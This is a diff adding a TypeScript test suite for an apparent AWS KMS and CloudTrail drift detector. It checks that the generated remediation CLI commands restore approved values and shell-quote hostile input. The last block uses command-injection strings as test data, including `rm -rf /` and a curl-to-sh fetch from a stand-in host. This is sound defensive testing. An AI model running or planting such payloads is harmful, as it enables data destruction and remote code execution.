@@ -1,0 +1,288 @@
+/**
+ * Remediation commands undo each change, back to the approved value, and quote every value a caller chose.
+ */
+import { normalizePolicy } from '../../lambda/core/policy';
+import { shellQuote } from '../../lambda/core/remediation';
+import type { CloudTrailRecord } from '../helpers/fixtures';
+import {
+  ALICE,
+  at,
+  createAlias,
+  createKey,
+  createTrail,
+  detect,
+  KEY_ARN,
+  OTHER_KEY_ARN,
+  OTHER_KEY_ID,
+  onKey,
+  onTrail,
+  policyWith,
+  putKeyPolicy,
+  rec,
+  TRAIL_ARN,
+} from './harness';
+
+const HOSTILE = `'; rm -rf / #`;
+const KEY = `--key-id ${KEY_ARN} --region us-west-2`;
+
+/**
+ * Splits a command the way a POSIX shell would, for the subset remediation uses (plain words, single
+ * quotes, backslash escapes). An unquoted shell metacharacter means the quoting failed: it throws.
+ */
+function shellWords(command: string): string[] {
+  const words: string[] = [];
+  let word: string | undefined;
+  for (let i = 0; i < command.length; i++) {
+    const c = command[i];
+    if (c === ' ') {
+      if (word !== undefined) words.push(word);
+      word = undefined;
+    } else if (c === "'") {
+      const end = command.indexOf("'", i + 1);
+      if (end < 0) throw new Error(`unterminated quote in ${command}`);
+      word = (word ?? '') + command.slice(i + 1, end);
+      i = end;
+    } else if (c === '\\') {
+      word = (word ?? '') + command[++i];
+    } else if (/[;&|<>()$`"*?[\]~#\n\t{}!]/.test(c)) {
+      throw new Error(`unquoted ${JSON.stringify(c)} at ${i} in ${command}`);
+    } else {
+      word = (word ?? '') + c;
+    }
+  }
+  if (word !== undefined) words.push(word);
+  return words;
+}
+
+const argAfter = (command: string, flag: string): string => {
+  const words = shellWords(command);
+  return words[words.indexOf(flag) + 1];
+};
+
+const remediationOf = (records: CloudTrailRecord[], configInput?: unknown) =>
+  detect(records, configInput).last.remediation;
+
+describe('Remediation', () => {
+  it('cancels a scheduled key deletion', () => {
+    expect(remediationOf([createKey(), onKey(rec('ScheduleKeyDeletion__awskmsdg__1'))])).toEqual([
+      `aws kms cancel-key-deletion ${KEY}`,
+      `aws kms enable-key ${KEY}`,
+    ]);
+  });
+
+  it('cancels a scheduled key deletion even when the approved key state is unknown', () => {
+    expect(remediationOf([rec('ScheduleKeyDeletion__awskmsdg__1')])).toEqual([`aws kms cancel-key-deletion ${KEY}`]);
+  });
+
+  it('enables rotation again after a DisableKeyRotation', () => {
+    expect(remediationOf([rec('DisableKeyRotation__awskmsdg__1')])).toEqual([`aws kms enable-key-rotation ${KEY}`]);
+  });
+
+  it('puts the approved policy back after a PutKeyPolicy on a key with a known baseline', () => {
+    // Prepare
+    const approved = policyWith({
+      Sid: 'App',
+      Effect: 'Allow',
+      Principal: { AWS: 'arn:aws:iam::111122223333:role/app' },
+      Action: ['kms:Encrypt', 'kms:Decrypt'],
+      Resource: '*',
+    });
+    // Act
+    const [command, ...rest] = remediationOf([createKey({ policy: approved }), putKeyPolicy(policyWith())]);
+    // Assess
+    expect(rest).toEqual([]);
+    expect(command).toMatch(new RegExp(`^aws kms put-key-policy ${KEY} --policy-name default --policy '`));
+    expect(JSON.parse(argAfter(command, '--policy'))).toEqual(normalizePolicy(approved));
+  });
+
+  it('points to the approved policy in the finding when it is too long to inline', () => {
+    const statements = Array.from({ length: 60 }, (_, i) => ({
+      Sid: `Reader${i}`,
+      Effect: 'Allow',
+      Principal: { AWS: `arn:aws:iam::111122223333:role/reader-${i}` },
+      Action: 'kms:Decrypt',
+      Resource: '*',
+    }));
+    const [command] = remediationOf([createKey({ policy: policyWith(...statements) }), putKeyPolicy(policyWith())]);
+    expect(command).toBe(
+      `aws kms put-key-policy ${KEY} --policy-name default --policy file://approved-policy.json  # write changes.policy.before to approved-policy.json`,
+    );
+  });
+
+  it('starts logging again after StopLogging', () => {
+    // Prepare: Alice (planned) creates the trail and starts it; christophe stops it.
+    const startLogging = at(
+      onTrail(
+        rec('StopLogging__stratus__1', (r) => {
+          r.eventName = 'StartLogging';
+        }),
+      ),
+      'start-1',
+    );
+    const stopLogging = at(onTrail(rec('StopLogging__stratus__1')), 'stop-1');
+    stopLogging.userIdentity = rec('StopLogging__stratus__1').userIdentity;
+    // Act
+    const { findings } = detect([createTrail(), startLogging, stopLogging], { plannedPrincipals: [ALICE] });
+    // Assess
+    expect(findings.map((f) => [f.event, f.status])).toEqual([
+      ['CreateTrail', 'planned'],
+      ['StartLogging', 'planned'],
+      ['StopLogging', 'drift'],
+    ]);
+    expect(findings[2].remediation).toEqual([`aws cloudtrail start-logging --name ${TRAIL_ARN} --region us-west-2`]);
+  });
+
+  it('starts logging again after StopLogging on a trail it never saw (StopLogging implies it was logging)', () => {
+    expect(remediationOf([rec('StopLogging__stratus__1')])).toEqual([
+      'aws cloudtrail start-logging --name arn:aws:cloudtrail:apiso-centralnorth-2r:143434273843:trail/stratus-red-team-ct-stop-trail-buykxbqejv --region apiso-centralnorth-2r',
+    ]);
+  });
+
+  it('gives the trail its KMS key back after an UpdateTrail removed it', () => {
+    const records = [createTrail('org-audit', KEY_ARN), onTrail(rec('UpdateTrail__streamalert__1'))];
+    expect(remediationOf(records)).toEqual([
+      `aws cloudtrail update-trail --name ${TRAIL_ARN} --region us-west-2 --kms-key-id ${KEY_ARN}`,
+    ]);
+  });
+
+  it('restores the event selectors a trail was created with', () => {
+    const records = [createTrail(), onTrail(rec('PutEventSelectors__stratus__1'))];
+    const [command] = remediationOf(records);
+    expect(JSON.parse(argAfter(command, '--event-selectors'))).toEqual([
+      { ReadWriteType: 'All', IncludeManagementEvents: true, ExcludeManagementEventSources: [] },
+    ]);
+  });
+
+  it('moves an alias back to its old key after an UpdateAlias', () => {
+    const records = [createAlias('alias/my_alias', OTHER_KEY_ID), rec('UpdateAlias__awskmsdg__1')];
+    expect(remediationOf(records)).toEqual([
+      `aws kms update-alias --alias-name alias/my_alias --region us-west-2 --target-key-id ${OTHER_KEY_ARN}`,
+    ]);
+  });
+
+  it('creates a deleted alias again on its old key', () => {
+    const deleteAlias = rec('DeleteAlias__awskmsdg__1', (r) => {
+      r.awsRegion = 'us-west-2';
+      (r.requestParameters as Record<string, unknown>).aliasName = 'alias/ExampleAlias';
+      r.resources = [];
+    });
+    expect(remediationOf([rec('CreateAlias__awskmsdg__1'), deleteAlias])).toEqual([
+      `aws kms create-alias --alias-name alias/ExampleAlias --region us-west-2 --target-key-id ${KEY_ARN}`,
+    ]);
+    expect(detect([rec('CreateAlias__awskmsdg__1'), deleteAlias]).last.resource).toBe(
+      'arn:aws:kms:us-west-2:111122223333:alias/ExampleAlias',
+    );
+  });
+
+  it('puts the old tag value back after a TagResource', () => {
+    const records = [createKey({ tags: { Department: 'Finance' } }), onKey(rec('TagResource__awskmsdg__1'))];
+    expect(remediationOf(records)).toEqual([`aws kms tag-resource ${KEY} --tags TagKey=Department,TagValue=Finance`]);
+  });
+
+  it('puts a removed tag back after an UntagResource', () => {
+    const records = [createKey({ tags: { Dept: 'IT' } }), onKey(rec('UntagResource__awskmsdg__1'))];
+    expect(remediationOf(records)).toEqual([`aws kms tag-resource ${KEY} --tags TagKey=Dept,TagValue=IT`]);
+  });
+
+  it('revokes a grant that was created', () => {
+    expect(remediationOf([rec('CreateGrant__awskmsdg__1')])).toEqual([
+      `aws kms revoke-grant ${KEY} --grant-id f020fe75197b93991dc8491d6f19dd3cebb24ee62277a05914386724f3d48758`,
+    ]);
+  });
+
+  it('creates a revoked grant again from the grant it knew', () => {
+    const grant = rec('CreateGrant__awskmsdg__1', (r) => {
+      (r.responseElements as Record<string, unknown>).grantId =
+        'abcde1237f76e4ba7987489ac329fbfba6ad343d6f7075dbd1ef191f0120514a';
+      (r.requestParameters as Record<string, unknown>).granteePrincipal = 'arn:aws:iam::111122223333:role/app';
+    });
+    const planned = { plannedPrincipals: ['arn:aws:iam::111122223333:user/Alice'] };
+    const revoke = rec('RevokeGrant__awskmsdg__1', (r) => {
+      r.userIdentity = { ...r.userIdentity, arn: 'arn:aws:iam::111122223333:user/Bob', userName: 'Bob' };
+    });
+    expect(remediationOf([grant, revoke], planned)).toEqual([
+      `aws kms create-grant ${KEY} --grantee-principal arn:aws:iam::111122223333:role/app --operations Encrypt RetireGrant`,
+    ]);
+  });
+
+  it('offers to delete an unwanted new key', () => {
+    expect(remediationOf([createKey()])).toEqual([
+      `# if this key is not wanted: aws kms schedule-key-deletion --key-id ${KEY_ARN} --region us-west-2 --pending-window-in-days 30`,
+    ]);
+  });
+
+  it('offers nothing for planned, resolved and denied findings', () => {
+    const { findings } = detect([
+      onKey(rec('DisableKey__awskmsdg__1')),
+      at(onKey(rec('EnableKey__awskmsdg__1')), 'enable-1'),
+      rec('DisableKey__panther__1'),
+    ]);
+    expect(findings.map((f) => [f.status, f.remediation])).toEqual([
+      ['drift', [`aws kms enable-key ${KEY}`]],
+      ['resolved', []],
+      ['denied', []],
+    ]);
+  });
+});
+
+describe('Remediation with hostile values', () => {
+  it(`shell-quotes a tag value containing ${HOSTILE}`, () => {
+    // Prepare: the approved value itself is hostile.
+    const records = [
+      createKey({ tags: { owner: HOSTILE } }),
+      onKey(
+        rec('TagResource__awskmsdg__1', (r) => {
+          (r.requestParameters as Record<string, unknown>).tags = [{ tagKey: 'owner', tagValue: 'mallory' }];
+        }),
+      ),
+    ];
+    // Act
+    const [command] = remediationOf(records);
+    // Assess
+    expect(command).toBe(`aws kms tag-resource ${KEY} --tags 'TagKey=owner,TagValue='\\''; rm -rf / #'`);
+    expect(argAfter(command, '--tags')).toBe(`TagKey=owner,TagValue=${HOSTILE}`);
+  });
+
+  it('shell-quotes a hostile tag key that has to be removed', () => {
+    const tagKey = '$(curl -s evil.example | sh)';
+    const records = [
+      createKey(),
+      onKey(
+        rec('TagResource__awskmsdg__1', (r) => {
+          (r.requestParameters as Record<string, unknown>).tags = [{ tagKey, tagValue: 'x' }];
+        }),
+      ),
+    ];
+    const [command] = remediationOf(records);
+    expect(argAfter(command, '--tag-keys')).toBe(tagKey);
+  });
+
+  it('shell-quotes a hostile description that has to be restored', () => {
+    const description = `payments" && echo 'pwned' > /tmp/x; #`;
+    const created = createKey();
+    (created.requestParameters as Record<string, unknown>).description = description;
+    (created.responseElements as { keyMetadata: Record<string, unknown> }).keyMetadata.description = description;
+    const [command] = remediationOf([created, onKey(rec('UpdateKeyDescription__awskmsdg__1'))]);
+    expect(argAfter(command, '--description')).toBe(description);
+  });
+
+  it('shell-quotes a hostile alias name', () => {
+    const alias = "alias/x';touch /tmp/pwned;'";
+    const records = [
+      createAlias(alias, OTHER_KEY_ID),
+      rec('UpdateAlias__awskmsdg__1', (r) => {
+        (r.requestParameters as Record<string, unknown>).aliasName = alias;
+      }),
+    ];
+    const [command] = remediationOf(records);
+    expect(argAfter(command, '--alias-name')).toBe(alias);
+  });
+
+  it('leaves plain values unquoted and quotes the empty string', () => {
+    expect(shellQuote('arn:aws:kms:us-west-2:111122223333:key/1234abcd')).toBe(
+      'arn:aws:kms:us-west-2:111122223333:key/1234abcd',
+    );
+    expect(shellQuote('')).toBe("''");
+    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
+  });
+});
